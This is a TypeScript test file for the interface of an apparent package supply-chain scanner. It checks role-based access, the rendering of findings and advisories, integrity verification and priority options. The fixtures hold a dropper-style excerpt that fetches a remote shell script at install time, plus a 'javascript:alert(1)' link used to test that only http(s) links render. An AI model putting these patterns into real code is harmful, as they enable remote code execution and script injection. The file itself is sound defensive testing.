import type { ReactNode } from 'react';
import { cleanup, render, screen, within } from '@testing-library/react';
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { MemoryRouter } from 'react-router';
import { afterEach, describe, expect, it } from 'vitest';
import type { Role } from '../src/api/roles';
import type { PackageReport } from '../src/api/types';
import { ME_KEY, SessionProvider } from '../src/auth/session';
import { RequireRole } from '../src/components/require-role';
import { Integrity, SupplyChain, Vulnerabilities } from '../src/pages/package-sections';
import { PrioritySelect } from '../src/components/priority';

afterEach(cleanup);

function withSession(role: Role, ui: ReactNode) {
  const client = new QueryClient();
  client.setQueryData(ME_KEY, { id: 1, username: 'someone', role });
  return render(
    <QueryClientProvider client={client}>
      <MemoryRouter>
        <SessionProvider>{ui}</SessionProvider>
      </MemoryRouter>
    </QueryClientProvider>,
  );
}

describe('RequireRole', () => {
  it('shows a lower role why not, instead of the page', () => {
    withSession('user', <RequireRole role="approver">the queue</RequireRole>);
    expect(screen.getByRole('heading', { name: 'Not allowed' })).toBeTruthy();
    expect(screen.getByText(/needs the/).textContent).toContain('approver role');
    expect(screen.queryByText('the queue')).toBeNull();
  });
  it('shows the page to that role and above', () => {
    withSession('admin', <RequireRole role="approver">the queue</RequireRole>);
    expect(screen.getByText('the queue')).toBeTruthy();
  });
});

describe('the package report', () => {
  it('shows a supply-chain finding with its file, line and excerpt', () => {
    render(
      <SupplyChain
        findings={[
          {
            id: 'install-code-download-exec',
            source: 'signal',
            severity: 'critical',
            title: 'Install-time code uses the network and runs commands',
            file: 'scripts/setup.js',
            line: 14,
            evidence: "https.get('https://x.example.test/p.sh')",
            explanation: 'The pattern of a dropper.',
          },
        ]}
      />,
    );
    const item = screen.getByRole('listitem');
    expect(within(item).getByText('scripts/setup.js')).toBeTruthy();
    expect(within(item).getByText('14')).toBeTruthy();
    expect(within(item).getByLabelText('Excerpt from scripts/setup.js').textContent).toBe(
      "https.get('https://x.example.test/p.sh')",
    );
    expect(within(item).getByText('critical')).toBeTruthy();
  });

  it('shows each vulnerability with the affected ranges of its advisory, and links only to http(s)', () => {
    render(
      <Vulnerabilities
        findings={[
          { id: 'GHSA-aaaa', source: 'osv', severity: 'high', title: 'ReDoS', url: 'javascript:alert(1)' },
          { id: 'GHSA-bbbb', source: 'osv', severity: 'medium', title: 'Other' },
        ]}
        advisories={[
          {
            id: 'GHSA-aaaa',
            aliases: ['CVE-2025-1'],
            summary: 'ReDoS',
            severity: 'high',
            malware: false,
            affected_ranges: ['>= 1.0.0, < 1.2.3'],
            fixed_versions: ['1.2.3'],
            url: null,
            published: null,
            modified: '2025-01-01T00:00:00Z',
          },
          {
            id: 'GHSA-bbbb',
            aliases: [],
            summary: null,
            severity: null,
            malware: false,
            affected_ranges: [],
            fixed_versions: [],
            url: 'https://example.test/GHSA-bbbb',
            published: null,
            modified: '2025-01-01T00:00:00Z',
          },
        ]}
      />,
    );
    const rows = screen.getAllByRole('row').slice(1);
    expect(within(rows[0]!).queryByRole('link')).toBeNull();
    expect(within(rows[0]!).getByText('>= 1.0.0, < 1.2.3')).toBeTruthy();
    expect(within(rows[0]!).getByText('CVE-2025-1')).toBeTruthy();
    expect(within(rows[0]!).getByText('1.2.3')).toBeTruthy();
    expect(within(rows[1]!).getByRole('link').getAttribute('href')).toBe('https://example.test/GHSA-bbbb');
    expect(within(rows[1]!).getByText('not recorded')).toBeTruthy();
  });

  it('says where the integrity was verified', () => {
    const report = {
      package: { id: 1, name: 'a', version: '1.0.0', integrity: 'sha512-L', resolved: null, created_at: '' },
      status: { registry_integrity: 'sha512-R', checksum: 'sha512-C', size_bytes: 2048 },
      events: [
        {
          id: 5,
          from: 'Downloading',
          to: 'Downloaded',
          actor: 'w1',
          actor_kind: 'worker',
          reason: 'downloaded 2048 bytes, integrity verified',
          attempt: 1,
          details: { verifiedAgainst: { lockfile: true, registry: true } },
          at: new Date().toISOString(),
        },
      ],
    } as unknown as PackageReport;
    render(
      <MemoryRouter>
        <Integrity report={report} />
      </MemoryRouter>,
    );
    expect(screen.getByText(/against the lockfile and the source registry/)).toBeTruthy();
    expect(screen.getByText('sha512-C')).toBeTruthy();
    expect(screen.getByText(/2.0 kB/)).toBeTruthy();
  });
});

describe('the priority select', () => {
  it('offers approvers every level and users only normal and low, still showing a level set by someone else', () => {
    render(<PrioritySelect id="p1" value="normal" role="approver" onChange={() => {}} />);
    expect(screen.getAllByRole('option').map((o) => o.textContent)).toEqual(['Urgent', 'High', 'Normal', 'Low']);
    cleanup();
    render(<PrioritySelect id="p2" value="urgent" role="user" onChange={() => {}} />);
    const options = screen.getAllByRole('option') as HTMLOptionElement[];
    expect(options.map((o) => [o.textContent, o.disabled])).toEqual([
      ['Urgent', true],
      ['Normal', false],
      ['Low', false],
    ]);
  });
});
